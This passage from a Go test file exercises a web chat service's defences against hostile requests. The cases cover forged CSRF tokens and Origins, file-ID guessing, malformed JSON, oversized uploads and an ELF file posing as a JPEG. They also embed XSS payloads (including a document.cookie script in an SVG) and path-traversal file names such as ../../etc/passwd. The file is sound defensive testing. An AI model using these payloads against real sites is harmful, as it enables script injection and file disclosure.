	req, _ := http.NewRequestWithContext(ctx, "GET", b.base+"/api/events?after=0", nil)
	resp, err := (&http.Client{Jar: b.client.Jar}).Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var lines []string
	sc := bufio.NewScanner(resp.Body)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		if data, ok := strings.CutPrefix(sc.Text(), "data: "); ok {
			lines = append(lines, data)
			if done(lines) {
				return lines
			}
		}
	}
	t.Fatalf("the event stream ended before the expected messages: %q", lines)
	return nil
}

// uploadAs uploads data under name with a declared Content-Type.
func uploadAs(t *testing.T, b *browser, name, contentType string, data []byte) (int, string) {
	t.Helper()
	return uploadParts(t, b, formPart{name: "file", filename: name, contentType: contentType, data: data})
}

type sseAttachment struct {
	From       string `json:"from"`
	Attachment *struct {
		Name string `json:"name"`
		MIME string `json:"mime"`
		URL  string `json:"url"`
	} `json:"attachment"`
}

// lastUpload is the newest file the browser's own chat shows.
func lastUpload(t *testing.T, b *browser) sseAttachment {
	t.Helper()
	var found sseAttachment
	sseData(t, b, func(lines []string) bool {
		for i := len(lines) - 1; i >= 0; i-- {
			var m sseAttachment
			if json.Unmarshal([]byte(lines[i]), &m) == nil && m.From == "me" && m.Attachment != nil && m.Attachment.URL != "" {
				found = m
				return true
			}
		}
		return false
	})
	return found
}

var scriptTag = regexp.MustCompile(`(?i)<script`)

func webHostileCases() []hostileCase[*webHostile] {
	type E = *webHostile
	cases := []hostileCase[E]{
		{id: "H50", channel: "web", name: "message without the CSRF token",
			input:  "POST /api/messages with the session cookie but no X-CSRF-Token (what a cross-site form can send)",
			expect: "403 \"tidak berasal dari halaman chat ini\"; nothing stored or echoed",
			run: func(t *testing.T, w E) {
				b := w.browser(t)
				code, body, _ := w.raw(t, b, "POST", "/api/messages", "application/json", []byte(`{"text":"halo dari situs lain"}`), nil)
				wantStatus(t, "no token", code, body, 403, "tidak berasal dari halaman chat ini")
				code, body, _ = w.raw(t, b, "POST", "/api/messages", "text/plain", []byte(`{"text":"halo"}`), map[string]string{"X-CSRF-Token": "salah"})
				wantStatus(t, "wrong token", code, body, 403, "tidak berasal dari halaman chat ini")
				onlyEcho(t, b)
			}},
		{id: "H51", channel: "web", name: "wrong Origin",
			input:  "POST /api/messages with the right token but Origin https://evil.example, and with Sec-Fetch-Site: cross-site",
			expect: "403 \"tidak berasal dari halaman chat ini\" for both; nothing stored",
			run: func(t *testing.T, w E) {
				b := w.browser(t)
				for _, hdr := range []map[string]string{
					{"X-CSRF-Token": b.csrf, "Origin": "https://evil.example"},
					{"X-CSRF-Token": b.csrf, "Origin": "null"},
					{"X-CSRF-Token": b.csrf, "Sec-Fetch-Site": "cross-site"},
				} {
					code, body, _ := w.raw(t, b, "POST", "/api/messages", "application/json", []byte(`{"text":"halo"}`), hdr)
					wantStatus(t, fmt.Sprint(hdr), code, body, 403, "tidak berasal dari halaman chat ini")
				}
				onlyEcho(t, b)
			}},
		{id: "H52", channel: "web", name: "cookie of a deleted session",
			input:  "the session row is deleted, then the browser posts, streams and fetches a file with its old cookie; also a made-up cookie",
			expect: "401 \"Sesi chat tidak ditemukan\" for the post and the stream, 404 for the file; POST /api/session then starts a fresh chat",
			run: func(t *testing.T, w E) {
				b := w.browser(t)
				if err := w.db.Exec(context.Background(), `DELETE FROM webchat_sessions WHERE csrf = $1`, b.csrf); err != nil {
					t.Fatal(err)
				}
				code, body := w.postRaw(t, b, "/api/messages", `{"text":"halo"}`)
				wantStatus(t, "post", code, body, 401, "Sesi chat tidak ditemukan")
				code, body, _ = w.raw(t, b, "GET", "/api/events?after=0", "", nil, nil)
				wantStatus(t, "events", code, body, 401, "Sesi chat tidak ditemukan")
				code, _, _ = w.raw(t, b, "GET", "/api/files/1", "", nil, nil)
				if code != 404 {
					t.Fatalf("file with a dead session: %d", code)
				}
				code, body, _ = w.raw(t, nil, "POST", "/api/messages", "application/json", []byte(`{"text":"halo"}`),
					map[string]string{"Cookie": "lapor_chat=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "X-CSRF-Token": "x"})
				wantStatus(t, "made-up cookie", code, body, 401, "Sesi chat tidak ditemukan")
				fresh := w.browser(t)
				if fresh.csrf == "" || fresh.csrf == b.csrf {
					t.Fatal("no fresh session")
				}
			}},
		{id: "H53", channel: "web", name: "guessing /api/files ids",
			input:  "Alice uploads a photo; Mallory (another session) and a client without a session GET /api/files/{0…id+3, -1, 2^63-1, 2^63, abc, 1e3, %2e%2e%2f1}",
			expect: "every guess is 404 and never returns Alice's bytes; Alice reads her own file (200)",
			run: func(t *testing.T, w E) {
				alice, mallory := w.browser(t), w.browser(t)
				toDescription(alice)
				photo := jpegWithGPS(t)
				if code, body := alice.upload("rumah.jpg", photo); code != 202 {
					t.Fatalf("upload: %d %s", code, body)
				}
				alice.expect("Bukti ke-1 diterima")
				up := lastUpload(t, alice)
				var own int64
				fmt.Sscanf(strings.TrimPrefix(up.Attachment.URL, "/api/files/"), "%d", &own)
				if code, _, _ := w.raw(t, alice, "GET", up.Attachment.URL, "", nil, nil); code != 200 {
					t.Fatalf("alice cannot read her file: %d", code)
				}
				guesses := []string{"-1", "9223372036854775807", "9223372036854775808", "abc", "1e3", "%2e%2e%2f1", "1%00"}
				for i := int64(0); i <= own+3; i++ {
					guesses = append(guesses, fmt.Sprint(i))
				}
				for _, who := range []*browser{mallory, nil} {
					for _, g := range guesses {
						code, body, _ := w.raw(t, who, "GET", "/api/files/"+g, "", nil, nil)
						if code != 404 || strings.Contains(body, string(photo[:20])) {
							t.Errorf("GET /api/files/%s as %v: %d", g, who != nil, code)
						}
					}
				}
			}},
		{id: "H54", channel: "web", name: "room sign-in with a wrong code",
			input:  "POST /api/signin with code AAAAAAAA, then with an empty code",
			expect: "403 \"Kode masuk tidak berlaku\" both times; the session stays a citizen chat (no room)",
			run: func(t *testing.T, w E) {
				b := w.browser(t)
				for _, code := range []string{"AAAAAAAA", ""} {
					status, body := b.post("/api/signin", map[string]string{"code": code})
					wantStatus(t, "sign-in "+code, status, body, 403, "Kode masuk tidak berlaku")
				}
				status, body := b.post("/api/session", nil)
				if status != 200 || strings.Contains(body, `"room"`) {
					t.Fatalf("session after wrong codes: %d %s", status, body)
				}
			}},
		{id: "H55", channel: "web", name: "JSON body that is not an object",
			input:  "POST /api/messages with [1,2], \"halo\", 42, {\"text\":123}, and a truncated {\"text\":\"ha",
			expect: "400 \"Permintaan tidak dapat dibaca\" each; nothing stored",
			run: func(t *testing.T, w E) {
				b := w.browser(t)
				for _, body := range []string{`[1,2]`, `"halo"`, `42`, `{"text":123}`, `{"text":"ha`} {
					code, out := w.postRaw(t, b, "/api/messages", body)
					wantStatus(t, body, code, out, 400, "Permintaan tidak dapat dibaca")
				}
				onlyEcho(t, b)
			}},
		{id: "H56", channel: "web", name: "huge and foreign numbers in JSON",
			input:  "reply_to 1e400, 99999999999999999999, -1, and 123456789 (no such message); a location of lat 999 and of 0,0",
			expect: "400 \"Permintaan tidak dapat dibaca\" for the replies, 400 \"Titik lokasi tidak sah\" for the locations; nothing stored",
			run: func(t *testing.T, w E) {
				b := w.browser(t)
				for _, n := range []string{"1e400", "99999999999999999999", "-1", "123456789"} {
					code, out := w.postRaw(t, b, "/api/messages", `{"text":"balasan","reply_to":`+n+`}`)
					wantStatus(t, "reply_to "+n, code, out, 400, "Permintaan tidak dapat dibaca")
				}
				for _, loc := range []string{`{"lat":999,"lon":111}`, `{"lat":0,"lon":0}`, `{"lat":"x"}`} {
					code, out := w.postRaw(t, b, "/api/location", loc)
					wantStatus(t, loc, code, out, 400, "Titik lokasi tidak sah")
				}
				onlyEcho(t, b)
			}},
		{id: "H57", channel: "web", name: "forged button values",
			input:  "a button value of 65 bytes, then one of exactly 64 bytes of garbage, then w|verify|MGT-7K3QFA|1|",
			expect: "400 \"Permintaan tidak dapat dibaca\" for 65 bytes; the others are accepted (202) and answered \"Tombol itu sudah tidak berlaku\"",
			run: func(t *testing.T, w E) {
				b := w.browser(t)
				b.say("/start", "Selamat datang")
				code, out := b.post("/api/messages", map[string]string{"button": strings.Repeat("x", 65)})
				wantStatus(t, "65 bytes", code, out, 400, "Permintaan tidak dapat dibaca")
				b.press(strings.Repeat("💣", 16), "Tombol itu sudah tidak berlaku")
				b.press("w|verify|MGT-7K3QFA|1|", "Tombol itu sudah tidak berlaku")
			}},
		{id: "H58", channel: "web", name: "upload over the limit",
			input:  "a 2 MB file with LAPOR_MAX_FILE_MB=1",
			expect: "413 \"Berkas terlalu besar. Batasnya 1 MB per berkas\"; nothing stored",
			run: func(t *testing.T, w E) {
				b := w.browser(t)
				code, body := b.upload("video.mp4", bytes.Repeat([]byte("x"), 2<<20))
				wantStatus(t, "2 MB", code, body, 413, "Berkas terlalu besar. Batasnya 1 MB per berkas")
				onlyEcho(t, b)
			}},
		{id: "H59", channel: "web", name: "SVG with a script",
			input:  "an upload gambar.svg (image/svg+xml) holding <script>alert(document.cookie)</script> at the description step",
			expect: "kept as a document; GET of its URL answers application/octet-stream, Content-Disposition attachment, nosniff: never rendered inline",
			run: func(t *testing.T, w E) {
				b := w.browser(t)
				toDescription(b)
				svg := []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>`)
				if code, body := uploadAs(t, b, "gambar.svg", "image/svg+xml", svg); code != 202 {
					t.Fatalf("upload: %d %s", code, body)
				}
				b.expect("Bukti ke-1 diterima")
				up := lastUpload(t, b)
				code, _, hdr := w.raw(t, b, "GET", up.Attachment.URL, "", nil, nil)
				if code != 200 || hdr.Get("Content-Type") != "application/octet-stream" ||
					!strings.HasPrefix(hdr.Get("Content-Disposition"), "attachment") || hdr.Get("X-Content-Type-Options") != "nosniff" {
					t.Fatalf("the SVG is served %d %v", code, hdr)
				}
			}},
		{id: "H60", channel: "web", name: "HTML script in a chat message",
			input:  "the text <script>alert(1)</script><img src=x onerror=alert(2)> in the web chat",
			expect: "stored and streamed as escaped JSON (\\u003cscript\\u003e, never a raw <script); the bot answers; the page's script only sets textContent under CSP script-src 'self'",
			run: func(t *testing.T, w E) {
				b := w.browser(t)
				payload := `<script>alert(1)</script><img src=x onerror=alert(2)>`
				b.say(payload, "laporan baru dengan isi berikut")
				lines := sseData(t, b, func(lines []string) bool {
					for _, l := range lines {
						if strings.Contains(l, `alert(1)`) {
							return true
						}
					}
					return false
				})
				for _, l := range lines {
					if scriptTag.MatchString(l) || strings.Contains(l, "<img") {
						t.Fatalf("raw markup in the event stream: %s", l)
					}
				}
				if !strings.Contains(strings.Join(lines, "\n"), `\u003cscript\u003e`) {
					t.Fatal("the message is not in the stream as escaped JSON")
				}
				code, js, _ := w.raw(t, b, "GET", "/static/chat.js", "", nil, nil)
				if code != 200 || strings.Contains(js, "innerHTML") || strings.Contains(js, "insertAdjacentHTML") || !strings.Contains(js, "textContent") {
					t.Fatalf("chat.js (%d) writes HTML or never uses textContent", code)
				}
				_, _, hdr := w.raw(t, b, "GET", "/", "", nil, nil)
				if !strings.Contains(hdr.Get("Content-Security-Policy"), "script-src 'self'") {
					t.Fatalf("CSP %q", hdr.Get("Content-Security-Policy"))
				}
			}},
		{id: "H61", channel: "web", name: "message over 10000 characters",
			input:  "a text of 10,001 characters, then one of exactly 10,000, at the description step",
			expect: "413 \"Pesan terlalu panjang\"; the 10,000-character one is accepted: \"Dicatat (10000 karakter)\"",
			run: func(t *testing.T, w E) {
				b := w.browser(t)
				toDescription(b)
				code, out := b.post("/api/messages", map[string]string{"text": runeText(10001)})
				wantStatus(t, "10001", code, out, 413, "Pesan terlalu panjang")
				b.say(runeText(10000), "Dicatat (10000 karakter)")
			}},
		{id: "H62", channel: "web", name: "empty and invisible messages",
			input:  "\"   \" (spaces), then \"\\u200b\\u2060\\u202e\" (only invisible characters) at the description step",
			expect: "400 \"Pesan kosong tidak dapat dikirim\"; the invisible one is accepted and answered \"tidak berisi teks yang bisa dibaca\"",
			run: func(t *testing.T, w E) {
				b := w.browser(t)
				toDescription(b)
				code, out := b.post("/api/messages", map[string]string{"text": "   "})
				wantStatus(t, "spaces", code, out, 400, "Pesan kosong tidak dapat dikirim")
				b.say("\u200b\u2060\u202e", "tidak berisi teks yang bisa dibaca")
			}},
		{id: "H63", channel: "web", name: "path traversal in an upload's file name",
			input:  "uploads named ../../etc/passwd and ..\\..\\boot.ini at the description step",
			expect: "kept under their base names passwd and boot.ini (\"Bukti ke-1 diterima: passwd\")",
			run: func(t *testing.T, w E) {
				b := w.browser(t)
				toDescription(b)
				if code, body := uploadAs(t, b, "../../etc/passwd", "text/plain", []byte("root:x:0:0")); code != 202 {
					t.Fatalf("upload: %d %s", code, body)
				}
				b.expect("Bukti ke-1 diterima: passwd")
				if code, body := uploadAs(t, b, `..\..\boot.ini`, "text/plain", []byte("[boot loader]")); code != 202 {
					t.Fatalf("upload: %d %s", code, body)
				}
				b.expect("Bukti ke-2 diterima: boot.ini")
			}},
		{id: "H64", channel: "web", name: "photo.jpg that is a Linux program",
			input:  "an upload photo.jpg, image/jpeg, whose bytes start with \\x7fELF, at the description step",
			expect: "accepted by HTTP (202), then refused by the conversation: \"tidak dapat kami terima karena jenisnya (Linux program)\"",
			run: func(t *testing.T, w E) {
				b := w.browser(t)
				toDescription(b)
				if code, body := uploadAs(t, b, "photo.jpg", "image/jpeg", elfBytes); code != 202 {
					t.Fatalf("upload: %d %s", code, body)
				}
				b.expect("tidak dapat kami terima karena jenisnya (Linux program)")
			}},
		{id: "H65", channel: "web", name: "NUL bytes in a web message",
			input:  "the text \"Jalan\\u0000rusak …\" at the description step",
			expect: "accepted (202) and answered \"Dicatat\" with the NUL removed",
			run: func(t *testing.T, w E) {
				b := w.browser(t)
				toDescription(b)
				code, out := b.post("/api/messages", map[string]string{"text": "Jalan\x00rusak parah di depan balai desa sejak Oktober."})
				if code != 202 {
					t.Fatalf("NUL text: %d %s", code, out)
				}
				b.expect("Dicatat")
			}},
	}
	cases = append(cases, webRoomCases()...)
	return append(cases, webFileHostileCases()...)
}

// ---------------------------------------------------------------- the table

// TestHostileCatalogueDocumented checks docs/RELIABILITY.md shows every
// case of the catalogue with its id, channel and name, marked pass or bug
// as the code says. On a mismatch it prints the rows to paste.
func TestHostileCatalogueDocumented(t *testing.T) {
	doc, err := os.ReadFile("../../docs/RELIABILITY.md")
	if err != nil {
		t.Fatal(err)
	}
	var rows []hostileRow
	for _, c := range hostileCatalogues {
		rows = append(rows, c()...)
	}
	seen := map[string]bool{}
	var want strings.Builder
	ok := true
	for _, r := range rows {
		if seen[r.id] {
			t.Errorf("case id %s used twice", r.id)
		}
		seen[r.id] = true
		result := "pass"
		if r.bug != "" {
			result = "**bug**: " + firstSentence(r.bug)
		}
		row := fmt.Sprintf("| %s | %s | **%s** — %s | %s | %s |", r.id, r.channel, mdCell(r.name), mdCell(r.input), mdCell(r.expect), mdCell(result))
		want.WriteString(fmt.Sprintf("%s `go test -run 'TestHostile%s/%s' ./cmd/lapor` |\n", row, groupOf(r.channel), r.id))
		if !bytes.Contains(doc, []byte(row)) {
			ok = false
		}
	}
	if len(rows) < 50 {
		t.Errorf("the catalogue has %d cases, want at least 50", len(rows))
	}
	if !ok {
		t.Errorf("docs/RELIABILITY.md does not show the catalogue as it is; its rows should be:\n%s", want.String())
	}
}

func groupOf(channel string) string {
	switch channel {
	case "web":
		return "Web"
	case "web-limits":
		return "WebLimits"
	case "whatsapp":
		return "WhatsApp"
	}
	return "Telegram"
}

func firstSentence(s string) string {
	if i := strings.Index(s, ": "); i > 0 {
		return s[:i]
	}
	return s
}

func mdCell(s string) string { return strings.ReplaceAll(s, "|", `\|`) }
